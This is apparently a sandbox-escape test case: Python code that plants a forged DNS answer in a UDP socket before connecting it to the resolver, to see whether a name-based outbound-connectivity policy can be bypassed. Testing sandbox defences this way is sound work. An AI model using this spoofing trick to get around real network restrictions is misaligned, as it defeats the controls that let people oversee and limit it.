# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: a forged answer is believed that waits in a socket before the socket is connected to the
#   resolver
# proof: word
# needs: resolver
import socket

from attack import RESOLVER, attempt, patience


def labels(*names):
    return b"".join(bytes([len(name)]) + name.encode() for name in names) + b"\0"


def question(*names, records=0):
    return b"\x12\x34\x01\0\0\x01\0\0\0\0\0" + bytes([records]) + labels(*names) + b"\0\x01\0\x01"


@attempt
def connect():
    listener = socket.socket()
    listener.bind(("127.66.66.66", 443))
    listener.listen()
    asked = question("api", "allowed", "example")
    forged = asked[:2] + b"\x81\x80\0\x01\0\x01\0\0\0\0" + asked[12:]
    forged += b"\xc0\x0c\0\x01\0\x01\0\0\x0e\x10\0\x04" + socket.inet_aton("127.66.66.66")
    asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asker.bind(("127.0.0.1", 0))
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(forged, asker.getsockname())
    asker.connect((RESOLVER, 53))
    asker.send(asked)
    asker.settimeout(patience(1))
    asker.recv(512)
    return socket.socket().connect_ex(("127.66.66.66", 443)) == 0
